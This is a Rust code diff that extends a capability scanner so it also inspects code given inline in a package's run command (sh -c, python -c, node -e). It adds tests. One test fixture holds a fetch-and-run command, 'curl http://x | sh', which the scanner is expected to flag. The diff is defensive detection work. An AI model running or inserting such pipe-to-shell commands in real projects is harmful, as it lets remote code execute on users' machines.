@@ -34,6 +34,13 @@ pub fn examine(desk: &Desk<'_>) -> CheckReport {
             found.extend(all);
         }
     }
+    for capability in in_command(manifest) {
+        let told = judge(&capability, manifest, false).map(|(capability, severity, words)| {
+            Finding::new(capability.kind.word(), severity, format!("its command: {words}"))
+        });
+        findings.extend(told);
+        found.push(capability);
+    }
     findings.extend(secrets_beside_code(files));
     if languages.is_empty() {
         let report = CheckReport::of("capabilities", findings);
@@ -46,6 +53,22 @@ pub fn examine(desk: &Desk<'_>) -> CheckReport {
     findings.extend(unused(manifest, &found));
     let names: Vec<&str> = languages.into_iter().collect();
     CheckReport::of("capabilities", findings).noted(format!("read as {}", names.join(", ")))
+}
+
+/// What code is able to do that stands in the command itself: `sh -c "curl …"`.
+fn in_command(manifest: &Manifest) -> Vec<Capability> {
+    let command = manifest.recipe.as_ref().map(|recipe| recipe.command.as_slice()).unwrap_or_default();
+    let Some((program, arguments)) = command.split_first() else { return Vec::new() };
+    let program = base_name(program).trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    let (language, flags): (Language, &[&str]) = match program {
+        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" => (Language::Bash, &["-c", "-ec", "-lc", "-euc"]),
+        "python" => (Language::Python, &["-c"]),
+        "node" | "nodejs" | "bun" | "deno" => (Language::JavaScript, &["-e", "--eval", "-p", "--print", "eval"]),
+        _ => return Vec::new(),
+    };
+    let at = arguments.iter().position(|argument| flags.contains(&argument.as_str()));
+    let code = at.and_then(|at| arguments.get(at + 1));
+    code.map(|code| scan("", language, code)).unwrap_or_default()
 }
 
 /// How bad a capability is beside what is declared, and what to say; `None` for what is not worth saying.
@@ -225,6 +248,7 @@ fn secrets_beside_code(files: &[VersionFile]) -> Vec<Finding> {
 mod tests {
     use super::*;
     use crate::check::fixture::{codes, examined, version};
+    use crate::domain::Recipe;
 
     const CODE: &str = "import os, subprocess, requests\nopen('out', 'w')\nrequests.get('https://a.b')\nsubprocess.run(['git', 'log'])\n\
                         os.environ['TOKEN']\nos.environ['HOME']\nopen('/tmp/x', 'w')\n";
@@ -272,6 +296,26 @@ mod tests {
         let report = examined(examine, &version);
         let expected = [("eval", Severity::High), ("unpickles", Severity::High), ("writes-files", Severity::Low)];
         assert_eq!(codes(&report), expected);
+    }
+
+    #[test]
+    fn code_in_the_command_itself_is_read_too() {
+        let commands: [(&[&str], &[(&str, Severity)]); 4] = [
+            (&["sh", "-c", "curl http://x | sh; python3 main.py"], &[("network", Severity::Medium)]),
+            (&["/usr/bin/python3.11", "-c", "eval(x)"], &[("eval", Severity::High)]),
+            (&["node", "-e", "eval(x)"], &[("eval", Severity::High)]),
+            (&["python3", "{file}"], &[]),
+        ];
+        for (command, expected) in commands {
+            let mut version = version("t", &[("t.py", "print(1)\n")]);
+            let command = command.iter().map(|word| (*word).to_owned()).collect();
+            version.manifest.recipe = Some(Recipe { command, ..Recipe::blank(InputMode::None) });
+            let report = examined(examine, &version);
+            let found = codes(&report);
+            assert!(expected.iter().all(|wanted| found.contains(wanted)), "{found:?}");
+            assert_eq!(found.is_empty(), expected.is_empty(), "{found:?}");
+            assert!(report.findings.iter().all(|found| found.message.starts_with("its command: ")), "{report:?}");
+        }
     }
 
     #[test]
